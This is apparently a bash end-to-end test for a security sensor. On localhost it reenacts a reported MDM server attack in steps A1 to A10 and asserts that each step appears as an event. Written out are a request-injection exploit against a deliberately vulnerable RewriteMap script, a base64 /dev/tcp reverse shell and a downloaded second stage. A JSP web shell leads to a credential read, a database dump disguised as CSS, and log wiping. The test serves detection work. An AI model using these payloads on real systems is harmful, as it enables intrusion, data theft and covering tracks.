#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# The real attack on an MDM server, step by step as public reports have it (A1 to A10), with Debian's
# Apache (a RewriteMap program that evaluates what a request says), Tomcat, MariaDB and invented
# people; paths are the product's own, in a mount namespace of this test. Each step must be an
# event with its fields right, below one web server.
set -u
cd "$(dirname "$0")/../.." || exit 1
if [ "${1:-}" != inside ]; then
	made=
	[ -d /mi ] || { mkdir /mi && made=1; }
	unshare -m --propagation private "$0" inside
	status=$?
	[ -z "$made" ] || rmdir /mi
	exit $status
fi
mount -t tmpfs -o mode=755 none /mi || exit 1
. tests/e2e/servers.sh
servers_start
servers_fill
web=/mi/tomcat/webapps/mifs
http=$((my_port + 1)) tomcat=$((my_port + 2)) evil=$((my_port + 3)) shell_port=$((my_port + 4))
java=$(realpath "$(type -P java)")

# ---- the product ----
mkdir -p $web/css /mi/files/system /mi/tomcat-properties /mi/log /mi/bin /mi/tmp /mi/steps /mi/evil \
	/mi/tomcat/{conf,work,temp,logs} /mi/httpd
chmod 1777 /mi/tmp
echo 'pw' >/mi/files/system/.mifpp
echo 'db.user=app' >/mi/tomcat-properties/db.properties
mariadb --no-defaults -S "$dir/my/sock" -u root -e "create database mifs; use mifs;
	create table mi_user as select * from mdm.staff;
	create table mifs_ldap_users as select id, name from mdm.staff limit 70;
	create table mifs_ldap_server_config (id int, host varchar(60));
	insert into mifs_ldap_server_config values (1, 'ldap.example'), (2, 'ldap2.example')" || exit 1
# CVE-2026-1281 in small: the map's program evaluates a variable whose text came from the request.
cat >/mi/bin/map-appstore-url <<-'END'
	#!/bin/bash
	while read -r line; do
		h=${line#*h=}
		( (( value = h )) ) 2>/dev/null
		echo "404"
	done
END
chmod 755 /mi/bin/map-appstore-url
cat >/mi/httpd/conf <<-END
	ServerRoot /mi/httpd
	PidFile /mi/httpd/pid
	ErrorLog /mi/log/error_log
	Mutex file:/mi/httpd default
	LoadModule mpm_prefork_module /usr/lib/apache2/modules/mod_mpm_prefork.so
	LoadModule authz_core_module /usr/lib/apache2/modules/mod_authz_core.so
	LoadModule rewrite_module /usr/lib/apache2/modules/mod_rewrite.so
	LoadModule proxy_module /usr/lib/apache2/modules/mod_proxy.so
	LoadModule proxy_http_module /usr/lib/apache2/modules/mod_proxy_http.so
	ServerName localhost
	Listen 127.0.0.1:$http
	StartServers 2
	User www-data
	Group www-data
	DocumentRoot /mi/tomcat/webapps
	LogFormat "%h %r %>s" short
	CustomLog /mi/log/https-access_log short
	AllowEncodedSlashes On
	MergeSlashes Off
	RewriteEngine On
	RewriteMap mapAppStoreURL prg:/mi/bin/map-appstore-url
	RewriteRule ^/mifs/c/(?:app|aft)store/fob/(.*)\$ - [E=answer:\${mapAppStoreURL:\$1},R=404,L]
	ProxyPassMatch ^/mifs/(.*\.jsp)\$ http://127.0.0.1:$tomcat/mifs/\$1
END
cat >/mi/tomcat/conf/server.xml <<-END
	<Server port="-1"><Service name="Catalina">
	  <Connector port="$tomcat" address="127.0.0.1"/>
	  <Engine name="Catalina" defaultHost="localhost">
	    <Host name="localhost" appBase="webapps"/></Engine></Service></Server>
END
cat >/mi/tomcat/conf/web.xml <<-'END'
	<web-app xmlns="https://jakarta.ee/xml/ns/jakartaee" version="6.0">
	  <servlet><servlet-name>jsp</servlet-name>
	    <servlet-class>org.apache.jasper.servlet.JspServlet</servlet-class></servlet>
	  <servlet-mapping><servlet-name>jsp</servlet-name><url-pattern>*.jsp</url-pattern></servlet-mapping>
	</web-app>
END
# The web shell of this test runs the steps that are written down here, and nothing else.
cat >/mi/evil/403.jsp <<-'END'
	<%@ page import="java.nio.file.*" %><%
	String step = request.getParameter("k").replaceAll("[^a-z0-9]", "");
	String text = Files.readString(Path.of("/mi/steps/" + step)).trim();
	Process p = Runtime.getRuntime().exec(new String[] {"sh", "-c", "env sh -p -c '" + text + "'"});
	out.print(new String(p.getInputStream().readAllBytes()));
	p.waitFor(); %>
END
cp /bin/sleep /mi/evil/slt
dump="mysqldump --no-defaults -S $dir/my/sock -u app -ppw --single-transaction mifs mi_user mifs_ldap_users mifs_ldap_server_config"
echo 'id' >/mi/steps/a5
echo 'cat /mi/files/system/.mifpp; tar czf /mi/tmp/s.tgz /mi/files/system /mi/tomcat-properties 2>/dev/null' >/mi/steps/a6
echo "$dump > $web/css/mibasecss.css" >/mi/steps/a7
echo "cd $web/css; tar czf mibasecss2.css mibasecss.css" >/mi/steps/a8
echo "rm -f $web/css/mibasecss.css $web/css/mibasecss2.css; sed -i /403.jsp/d /mi/log/https-access_log; : > /mi/log/error_log; rm -f $web/403.jsp" >/mi/steps/a10
echo "nameserver 127.0.0.1
options timeout:1 attempts:1" >/mi/resolv.conf
mount --bind /mi/resolv.conf /etc/resolv.conf

# ---- who watches, and what runs before ----
servers=()
stop() {
	for pid in "${servers[@]}"; do kill "$pid" && wait "$pid"; done 2>/dev/null
	cleanup
	umount /etc/resolv.conf 2>/dev/null
}
trap stop EXIT
# In a session of its own: it ends its process group when it is ended.
setsid apache2 -f /mi/httpd/conf -DFOREGROUND 2>/mi/httpd/err &
servers+=($!)
UMASK=0022 CATALINA_HOME=/usr/share/tomcat10 CATALINA_BASE=/mi/tomcat JAVA_HOME=${java%/bin/java} \
	/usr/share/tomcat10/bin/catalina.sh run >/mi/tomcat/out 2>&1 &
servers+=($!)
python3 -m http.server -d /mi/evil --bind 127.0.0.1 "$evil" >/dev/null 2>&1 &
servers+=($!)
cat >"$dir/sensor.yaml" <<-END
	watch: [mariadb:mifs.mi_user, mariadb:mifs.mifs_ldap_users, mariadb:mifs.mifs_ldap_server_config]
	files:
	  web_roots: [/mi/tomcat/webapps]
	  secrets: [/mi/files/system, /mi/tomcat-properties]
	  logs: [/mi/log]
	processes:
	  watch: [/usr/sbin/apache2, $java]
END
for _ in $(seq 300); do curl -so /dev/null "http://127.0.0.1:$tomcat/" && curl -so /dev/null "http://127.0.0.1:$http/" && break; sleep 0.1; done
curl -so /dev/null "http://127.0.0.1:$http/" || { cat /mi/httpd/err /mi/log/error_log; exit 1; }
"$sensor" --stdout --config "$dir/sensor.yaml" --resolved "" >"$dir/events" 2>"$dir/sensor.log" &
sensor_pid=$!
for _ in $(seq 600); do grep -q '"event":"ready"' "$dir/events" && break; sleep 0.05; done

# ---- the attack ----
inject() { # COMMAND: as the advisory's request has it
	local path
	path=$(printf '%s' "$1" | jq -sRr @uri)
	curl -s -o /dev/null -w '%{http_code}' \
		"http://127.0.0.1:$http/mifs/c/appstore/fob/3/5/sha256:kid=1,st=theValue,h=gPath%5B%60$path%60%5D"
}
step() { curl -s "http://127.0.0.1:$http/mifs/403.jsp?k=$1"; }
check "A1: the request is answered as if nothing was" "$(inject id)" 404
inject 'sleep 0.2' >/dev/null
inject 'getent hosts c8f2k1x9q7z3m5n4b6v8.oast.example' >/dev/null
inject "curl -so /mi/tmp/slt http://127.0.0.1:$evil/slt" >/dev/null
inject 'chmod +x /mi/tmp/slt' >/dev/null
inject '/mi/tmp/slt 0.1' >/dev/null
{ echo 'id'; echo exit; } | python3 -c "
import socket, sys
s = socket.create_server(('127.0.0.1', $shell_port)); s.settimeout(20)
open('$dir/listening', 'w')
c, _ = s.accept(); c.sendall(sys.stdin.buffer.read()); print(c.makefile().read())" >"$dir/shell" &
listener=$!
for _ in $(seq 200); do [ -e "$dir/listening" ] && break; sleep 0.05; done
payload=$(printf 'exec 3<>/dev/tcp/127.0.0.1/%s; exec sh <&3 >&3 2>&3' "$shell_port" | base64 -w 0)
inject "echo $payload | base64 -d | bash" >/dev/null
wait "$listener"
check "A3: the shell answered" "$(grep -c '^uid=' "$dir/shell")" 1
inject "curl -so $web/403.jsp http://127.0.0.1:$evil/403.jsp" >/dev/null
check "A5: the web shell answers" "$(step a5 | grep -c '^uid=')" 1
check "A6: the password" "$(step a6 | head -1)" pw
step a7 >/dev/null
step a8 >/dev/null
size=$(stat -c %s $web/css/mibasecss2.css)
check "A9: fetched by an ordinary GET" "$(curl -s "http://127.0.0.1:$http/mifs/css/mibasecss2.css" | wc -c)" "$size"
step a10 >/dev/null
sleep 0.5
sensor_stop

# ---- what the sensor saw ----
lines=$dir/lines
jq -c 'select(.event != "ready")
	| .chain = [.process | while(. != null; .parent) | .exe // ""]
	| .args = ((.process.args // []) | join(" "))
	| .exe = (.process.exe // "" | sub(".*/"; ""))' "$dir/events" >"$lines"
sees() { # NAME CONDITION: an event that fits, below the web server
	local n
	n=$(jq -c "select($2) | select(any(.chain[]; test(\"/(apache2|java)\$\")))" "$lines" | wc -l)
	check "$1" "$((n > 0))" 1
}
sees "A1: accept" '.event == "tcp_accept" and .exe == "apache2"'
sees "A1: id below the map program" '.event == "exec" and .exe == "id" and any(.chain[]; test("bash$"))'
sees "A2: sleep" '.event == "exec" and .args == "sleep 0.2"'
sees "A2: the name that calls home" '.event == "dns" and (.name | startswith("c8f2k1x9q7z3m5n4b6v8.oast"))'
sees "A3: second stage" '.event == "exec" and .exe == "curl" and (.args | contains("/slt"))'
sees "A3: its connection" ".event == \"tcp_connect\" and .exe == \"curl\" and .remote.port == $evil and .result == \"established\""
sees "A3: file made" '.event == "file_open" and .path == "/mi/tmp/slt" and .created and .lineage == 1'
sees "A3: chmod +x" '.event == "file_change" and .aspect == "mode" and .path == "/mi/tmp/slt" and .mode % 2 == 1'
sees "A3: executed at once" '.event == "exec" and .process.exe == "/mi/tmp/slt" and (.exe_age // 0) < 60'
sees "A3: shell on a socket" ".event == \"exec\" and (.exe == \"dash\" or .exe == \"sh\") and .input.kind == \"fd_socket\" and .output.kind == \"fd_socket\" and .input.socket.remote_port == $shell_port"
sees "A4: web shell dropped" ".event == \"file_open\" and .path == \"$web/403.jsp\" and .created and .tree == 1 and .lineage == 1"
sees "A4: it is a JSP" ".event == \"file_write\" and .path == \"$web/403.jsp\" and .type == \"text/x-jsp\""
sees "A4: compiled" '.event == "file_close" and (.path | test("_403_jsp.class$")) and .exe == "java"'
sees "A4: class file" '.event == "file_write" and (.path | test("_403_jsp.class$")) and .type == "application/java-vm"'
sees "A5: java, sh, env, sh -p" '.event == "exec" and (.args | startswith("sh -p -c id"))'
sees "A6: password read" '.event == "file_read" and .path == "/mi/files/system/.mifpp" and .exe == "cat" and .tree == 2'
sees "A6: secrets packed" '.event == "file_read" and .path == "/mi/tomcat-properties/db.properties" and .exe == "tar"'
sees "A7: unix socket" ".event == \"unix_connect\" and .path == \"$dir/my/sock\" and (.exe | test(\"dump\"))"
sees "A7: rows, exact" ".event == \"db_result\" and .db.rows == $people and .db.tables == [\"mifs.mi_user\"] and .db.confidence == \"exact\""
sees "A7: the other tables" '.event == "db_result" and .db.rows == 70 and .db.tables == ["mifs.mifs_ldap_users"]'
sees "A8: dump as a style sheet" ".event == \"file_write\" and .path == \"$web/css/mibasecss.css\" and .type == \"application/sql\""
sees "A8: archive as a style sheet" ".event == \"file_write\" and .path == \"$web/css/mibasecss2.css\" and .type == \"application/gzip\""
sees "A8: bytes" ".event == \"file_close\" and .path == \"$web/css/mibasecss2.css\" and .inode.size == $size"
sees "A9: fetched" ".event == \"file_read\" and .path == \"$web/css/mibasecss2.css\" and .exe == \"apache2\" and .recent and .lineage == 3"
sees "A9: bytes out" ".event == \"tcp_close\" and .exe == \"apache2\" and .bytes_sent >= $size"
sees "A10: removed" ".event == \"file_unlink\" and .path == \"$web/css/mibasecss2.css\" and .exe == \"rm\""
sees "A10: log rewritten" '.event == "file_rename" and .path == "/mi/log/https-access_log" and .tree == 4'
sees "A10: log emptied" '.event == "file_open" and .path == "/mi/log/error_log" and (.flags / 512 | floor) % 2 == 1 and (.exe | test("sh$"))'
sees "A10: web shell removed" ".event == \"file_unlink\" and .path == \"$web/403.jsp\""
check "one finding joins it" "$(jq -c 'select(.event == "finding" and .rule.level == "critical" and .status == "new") | [.rule.id, .path, .rows]' "$dir/events")" \
	"[\"rollcall-db-staged-and-served\",\"$web/css/mibasecss2.css\",$((people + 72))]"
check "the bulk read is a finding of its own" "$(jq -r 'select(.event == "finding" and .rule.id == "rollcall-db-bulk-read") | .rows' "$dir/events" | sort -n | tail -1)" "$people"
check "nothing was lost" "$(grep -c '"event":"gap"' "$dir/events")" 0
check "no password is kept" "$(grep -c -e "-ppw" "$dir/events")" 0
[ -z "${KEEP_EVENTS:-}" ] || cp "$dir/events" "$KEEP_EVENTS"
[ "$failed" -eq 0 ] || tail -n 5 /mi/tomcat/out /mi/log/error_log "$dir/sensor.log"
finish
